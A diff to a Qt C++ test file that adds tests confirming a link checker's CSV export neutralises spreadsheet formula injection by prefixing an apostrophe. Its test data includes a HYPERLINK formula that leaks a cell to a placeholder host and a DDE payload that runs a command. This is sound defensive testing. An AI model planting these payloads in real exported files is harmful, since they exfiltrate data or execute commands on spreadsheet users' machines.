@@ -119,7 +119,7 @@ private slots:
         QTest::newRow("hostile fields") << outcome(HostileLink, LinkVerdict::Invalid, HostileReason,
                                                    u"A,\"B\"\rC"_qs, 410, u"in \"x\",\n.html:3"_qs);
         QTest::newRow("lone quote and lone CR")
-            << outcome(u"\""_qs, LinkVerdict::Invalid, u"\r"_qs);
+            << outcome(u"\""_qs, LinkVerdict::Invalid, u"x\r"_qs);
         CheckedLink said = outcome(u"https://d"_qs, LinkVerdict::Invalid, u"A, \"b\" - c\nd"_qs,
                                    u"ERROR"_qs, 200);
         said.siteReason = u"A, \"b\""_qs;
@@ -149,6 +149,43 @@ private slots:
                  (QList<QStringList> {{"link", "verdict", "reason", "status", "http", "subreason",
                                        "cause", "source"},
                                       expected}));
+    }
+
+    // A cell a spreadsheet would run as a formula gets a leading apostrophe, in every column
+    // that holds text from a link file or a server; JSON keeps the text exact.
+    void csvCellsThatSpreadsheetsRunAreDefused_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("sum") << u"=1+1"_qs << u"'=1+1"_qs;
+        QTest::newRow("link that sends a cell away")
+            << u"=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")"_qs
+            << u"'=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")"_qs;
+        QTest::newRow("DDE") << u"=cmd|' /C calc'!A0"_qs << u"'=cmd|' /C calc'!A0"_qs;
+        QTest::newRow("plus") << u"+1"_qs << u"'+1"_qs;
+        QTest::newRow("minus") << u"-2+3"_qs << u"'-2+3"_qs;
+        QTest::newRow("at") << u"@SUM(A1)"_qs << u"'@SUM(A1)"_qs;
+        QTest::newRow("tab") << u"\t=1"_qs << u"'\t=1"_qs;
+        QTest::newRow("carriage return") << u"\r=1"_qs << u"'\r=1"_qs;
+        QTest::newRow("sign inside") << u"a=b-c"_qs << u"a=b-c"_qs;
+        QTest::newRow("blank first") << u" =1"_qs << u" =1"_qs;
+        QTest::newRow("apostrophe first") << u"'=1"_qs << u"'=1"_qs;
+    }
+    void csvCellsThatSpreadsheetsRunAreDefused()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        CheckedLink checked = outcome(text, LinkVerdict::Unknown, text, text, 200, text);
+        checked.siteReason = checked.siteSubreason = text;
+        using ReportFormat::SourceColumn;
+        const QList<QStringList> records
+            = readCsv(ReportFormat::csvRow(checked, SourceColumn::With));
+        QCOMPARE(records,
+                 (QList<QStringList> {{cell, "unknown", cell, cell, "200", cell, cell, cell}}));
+        const QJsonObject json
+            = QJsonDocument::fromJson(CheckedLinkFormat::jsonLine(checked).toUtf8()).object();
+        for (const char *field : {"link", "reason", "subreason", "status", "cause", "source"})
+            QCOMPARE(json.value(QLatin1String(field)).toString(), text);
     }
 
     void csvLeavesPlainFieldsUnquoted()
